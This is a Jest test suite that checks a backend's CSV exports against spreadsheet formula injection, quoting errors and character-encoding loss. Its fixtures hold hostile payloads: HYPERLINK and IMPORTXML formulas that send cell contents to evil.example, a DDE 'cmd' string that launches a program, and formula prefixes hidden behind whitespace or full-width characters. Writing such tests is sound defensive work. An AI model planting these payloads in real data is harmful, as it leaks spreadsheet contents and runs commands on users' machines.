/**
 * Every CSV file the server writes, read as a spreadsheet would read it. The CSV routes are read
 * from the app (every route whose path names a .csv file, and every route the API document says
 * answers text/csv), so a new CSV route without an entry below fails this suite, as does an entry
 * for a route that no longer exists.
 *
 * The world holds people, venues, shifts, notes, dietary restrictions and exception reasons made to
 * hurt a spreadsheet: formulas (=, +, -, @, also after spaces, a tab or a carriage return, and their
 * full-width forms), quotes, commas, line breaks, and names in many scripts. Each file is parsed with
 * a real CSV parser (csv-parse) and must start with a UTF-8 BOM, have a header of people's words,
 * hold no cell a spreadsheet would run as a formula, and give every name back as it was stored,
 * apart from the apostrophe that defuses a formula (docs/decisions.md, 'One CSV writer').
 *
 * Runs with the backend suites on SQLite and on MariaDB.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { emptyConfirmationForm } from '@svp/domain';
import { completeApplicationData } from '../../backend/src/testing/fixtures.js';
import { createTestApp, type TestApp } from '../../backend/src/testing/test-app.js';
import type { User } from '../../backend/src/users/user.entity.js';
import { listRoutes } from './matrix-support.js';

/** What a spreadsheet reads as the start of a formula (LibreOffice, Gnumeric, Excel, Google Sheets). */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
/** A stored text as the file must hold it: a formula gets one leading apostrophe, anything else stays. */
const asWritten = (text: string) => (FORMULA_START.test(text) ? `'${text}` : text);

const HOSTILE_NAMES: readonly [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&C2,"Open")', 'Link'],
  ['+SUM(1,2)', 'Plus'],
  ['-2+3', 'Minus'],
  ['@SUM(A1:A2)', 'At'],
  ['\t=1+1', 'Tab'],
  ['\r=1+1', 'Return'],
  ['   =1+1', 'Spaces'],
  ['＝1+1', 'Fullwidth'],
  ['-', 'Dash'],
  ['Zoë', "=cmd|' /C calc'!A0"],
  ['O"Brien, "Jr"', 'Quote, Comma'],
  ['Line\nBreak', 'New\r\nLine'],
  ['Émile', 'Zola'],
  ['Ελύτης', 'Οδυσσέας'],
  ['Дмитрий', 'Шостакович'],
  ['李', '小龍'],
  ['山田', '太郎'],
  ['김', '민준'],
  ['محمد', 'الخوارزمي'],
  ['अनिल', 'कुमार'],
  ['ישראל', 'כהן'],
  ['สมชาย', 'ใจดี'],
  ['Nguyễn', 'Thị Minh'],
  ['👩‍👩‍👧', '🏳️‍🌈'],
];
const HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1 555 0100', '@me, "please"', '  -fish\nno nuts', 'Halal 🥙'];
const HOSTILE_VENUES = ['=HYPERLINK("http://evil.example","Hall")', '  +Lobby, "East"\nLevel 2'];
const HOSTILE_ROLE = '@Greeter, "front"';
const HOSTILE_REASON = '=IMPORTXML("http://evil.example","//a")';

interface Person {
  user: User;
  first: string;
  last: string;
  diet: string;
  request: string;
}

interface World {
  people: Person[];
  venues: string[];
}

/** What one call must give back whole: a cell of `column` in some row, as stored (apart from the defusing). */
interface Expected {
  column: string;
  value: string;
}

interface CsvCall {
  /** The path to call, for a route with parameters (else the route's own). */
  path?: string;
  query?: Record<string, string>;
  expect?: (world: World) => Expected[];
  /** Columns whose every cell is one of these labels (never a stored code). */
  labels?: Record<string, readonly string[]>;
}

interface CsvEntry {
  route: string;
  calls: CsvCall[];
}

const nameOf = (p: Person) => `${p.first} ${p.last}`.trim();
const ROLE_LABELS = ['Student Volunteer', 'Team Leader'];

const ENTRIES: CsvEntry[] = [
  {
    route: 'GET /api/admin/applications/export.csv',
    calls: [
      {
        expect: (w) =>
          w.people.flatMap((p) => [
            { column: 'First Name', value: p.first },
            { column: 'Last Name', value: p.last },
          ]),
      },
      {
        query: { withData: 'true', withScores: 'true', history: 'true' },
        expect: (w) => [
          ...w.people.map((p) => ({ column: 'Last Name', value: p.last })),
          ...HOSTILE_TEXTS.map((text) => ({ column: 'Additional Comments', value: text })),
        ],
      },
    ],
  },
  {
    route: 'GET /api/admin/reports/volunteers.csv',
    calls: [
      { expect: (w) => w.people.map((p) => ({ column: 'Name', value: nameOf(p) })), labels: { Role: ROLE_LABELS } },
      { query: { filter: JSON.stringify({ q: 'Ελύτης' }) }, expect: () => [{ column: 'Name', value: 'Ελύτης Οδυσσέας' }] },
    ],
  },
  {
    route: 'GET /api/admin/reports/venues.csv',
    calls: [{ expect: (w) => w.venues.map((venue) => ({ column: 'Venue', value: venue })) }],
  },
  {
    route: 'GET /api/admin/reports/logistics.csv',
    calls: [
      {},
      {
        query: { key: 'diet' },
        expect: (w) =>
          w.people.flatMap((p) => [
            { column: 'Name', value: nameOf(p) },
            { column: 'Detail', value: p.diet.trim() },
          ]),
      },
      { query: { key: 'specialRequests' }, expect: (w) => w.people.map((p) => ({ column: 'Detail', value: p.request.trim() })) },
    ],
  },
  {
    route: 'GET /api/admin/retention/:editionId/:kind/export.csv',
    calls: [
      {
        path: '/api/admin/retention/1/health/export.csv',
        expect: (w) =>
          w.people.flatMap((p) => [
            { column: 'Name', value: nameOf(p) },
            { column: 'Dietary Restrictions', value: p.diet },
            { column: 'Special Requests', value: p.request },
          ]),
      },
      {
        path: '/api/admin/retention/1/performanceNotes/export.csv',
        expect: (w) => [
          ...w.people.map((p) => ({ column: 'Name', value: nameOf(p) })),
          ...HOSTILE_TEXTS.map((text) => ({ column: 'Notes', value: text })),
          { column: 'Shift Role', value: HOSTILE_ROLE },
        ],
      },
    ],
  },
  {
    route: 'GET /api/admin/volunteer-preferences/export.csv',
    calls: [
      {
        expect: (w) => w.people.map((p) => ({ column: 'Name', value: nameOf(p) })),
        labels: { Role: ROLE_LABELS, 'Venue preferences': ['Art Gallery'] },
      },
    ],
  },
];

let t: TestApp;
let admin: User;
const world: World = { people: [], venues: [] };

beforeAll(async () => {
  t = await createTestApp({ now: '2026-08-01T12:00:00.000Z' });
  admin = (await t.factories.admin()).user;
  const as = (user: User) => t.factories.auth(user);
  const post = async (path: string, body: object, status = 201) =>
    (await t.http().post(`/api/admin/${path}`).set('Authorization', as(admin)).send(body).expect(status)).body;

  const leader = await t.factories.teamLeader({ firstName: '=1+1', lastName: 'Leader' });
  await t.factories.application(leader.user, { status: 'confirmed' });
  for (const [i, [first, last]] of HOSTILE_NAMES.entries()) {
    const { user } = await t.factories.applicant({ firstName: first, lastName: last, email: `csv.person${i}@example.edu` });
    const text = HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]!;
    const person = { user, first, last, diet: HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length]!, request: text };
    await t.factories.application(user, {
      status: 'confirmed',
      data: completeApplicationData({ otherComments: text }),
      confirmation: {
        ...emptyConfirmationForm(),
        inPerson: true,
        shirtSize: 'm',
        diet: true,
        dietRestrictions: person.diet,
        additionalInfo: person.request,
        artGallery: true,
        emailConsent: true,
        photoConsent: true,
      },
    });
    world.people.push(person);
  }

  const [first, second] = [
    await post('venues', { name: HOSTILE_VENUES[0], location: '=A1', teamLeaderIds: [leader.user.id] }),
    await post('venues', { name: HOSTILE_VENUES[1], location: '-B2' }),
  ];
  // As stored (the venue form trims names).
  world.venues.push(first.name, second.name);
  const shift = await post('shifts', {
    venueId: first.id,
    startTime: '2026-08-10 08:00',
    endTime: '2026-08-10 12:00',
    role: HOSTILE_ROLE,
    svSlots: HOSTILE_NAMES.length,
  });
  await post('shifts', { venueId: second.id, startTime: '2026-08-11 08:00', endTime: '2026-08-11 12:00', role: '-Usher', svSlots: 2 });
  const [excepted, ...others] = world.people;
  for (const person of others) await post('shift-assignments', { shiftId: shift.id, volunteerId: person.user.id });
  // An exception with a reason made to hurt: the preferences export lists it.
  await t
    .http()
    .put(`/api/admin/volunteer-constraints/${excepted!.user.id}`)
    .set('Authorization', as(admin))
    .send({ unavailable: [{ day: '2026-08-10', from: null, to: null }], maxHoursPerDay: null, minRestMinutes: null })
    .expect(200);
  await post('shift-assignments', { shiftId: shift.id, volunteerId: excepted!.user.id, exceptionReason: HOSTILE_REASON });

  // Notes made to hurt, saved by the team leader during the shift: the volunteer report lists them.
  t.clock.set('2026-08-10T16:00:00.000Z');
  await t
    .http()
    .post('/api/schedule/pr')
    .set('Authorization', as(leader.user))
    .send({
      performance_records: world.people.map((p, i) => ({
        shift_id: shift.id,
        student_volunteer_id: p.user.id,
        check_in: true,
        check_out: false,
        rating: 0,
        notes: HOSTILE_TEXTS[i % HOSTILE_TEXTS.length],
      })),
    })
    .expect(200);
}, 120_000);
afterAll(() => t?.close());

/** The routes that write a CSV file: by name (.csv) and by what the API document says they answer. */
async function csvRoutes(): Promise<string[]> {
  const doc = (await t.http().get('/api/docs-json').expect(200)).body as {
    paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
  };
  const documented = Object.entries(doc.paths).flatMap(([path, operations]) =>
    Object.entries(operations)
      .filter(([, operation]) => Object.values(operation.responses ?? {}).some((answer) => 'text/csv' in (answer.content ?? {})))
      .map(([method]) => `${method.toUpperCase()} ${path.replace(/\{([^}]+)\}/g, ':$1')}`),
  );
  const named = listRoutes(t.app).filter((route) => /\.csv(\/|$)/.test(route));
  return [...new Set([...documented, ...named])].sort();
}

async function download(route: string, query: Record<string, string> = {}, path = route.split(' ')[1]!) {
  return t
    .http()
    .get(path)
    .query(query)
    .set('Authorization', t.factories.auth(admin))
    .buffer(true)
    .parse((response, done) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => done(null, Buffer.concat(chunks)));
    });
}

describe('every CSV file, read as a spreadsheet reads it', () => {
  it('has an entry here for every route that writes a CSV file', async () => {
    expect(await csvRoutes()).toEqual(ENTRIES.map((entry) => entry.route).sort());
  });

  for (const entry of ENTRIES) {
    it(`${entry.route}: a BOM, human headers, no formula in any cell, every name back as stored`, async () => {
      for (const call of entry.calls) {
        const res = await download(entry.route, call.query, call.path);
        const where = `${call.path ?? entry.route} ${JSON.stringify(call.query ?? {})}`;
        expect([where, res.status]).toEqual([where, 200]);
        expect([where, res.headers['content-type']]).toEqual([where, 'text/csv; charset=utf-8']);
        expect([where, res.headers['content-disposition']]).toEqual([where, expect.stringMatching(/^attachment; filename=".+\.csv"$/)]);
        const bytes = res.body as Buffer;
        expect([where, [...bytes.subarray(0, 3)]]).toEqual([where, [0xef, 0xbb, 0xbf]]);
        // Strict: a quote, a comma or a line break left unquoted breaks the parse or the column count.
        const [header, ...rows] = parse(bytes.subarray(3).toString('utf8')) as string[][];
        expect(rows.length).toBeGreaterThan(0);
        // People's words, each once: no field names (camelCase, snake_case, all lower case).
        expect([where, header!.filter((h) => !/^[A-Z0-9]/.test(h) || /[a-z][A-Z]|_/.test(h))]).toEqual([where, []]);
        expect(new Set(header).size).toBe(header!.length);
        const formulas = rows.flatMap((row, r) =>
          row.flatMap((cell, c) => (FORMULA_START.test(cell) ? [`row ${r + 1}, ${header![c]}: ${cell}`] : [])),
        );
        expect([where, formulas]).toEqual([where, []]);
        const cellsOf = (column: string) => {
          const at = header!.indexOf(column);
          expect([where, column, at >= 0]).toEqual([where, column, true]);
          return rows.map((row) => row[at]!);
        };
        const missing = (call.expect?.(world) ?? []).filter(({ column, value }) => !cellsOf(column).includes(asWritten(value)));
        expect([where, missing]).toEqual([where, []]);
        for (const [column, labels] of Object.entries(call.labels ?? {})) {
          const codes = cellsOf(column).filter((cell) => cell !== '' && !cell.split('; ').every((part) => labels.includes(part)));
          expect([where, column, codes]).toEqual([where, column, []]);
        }
      }
    });
  }
});
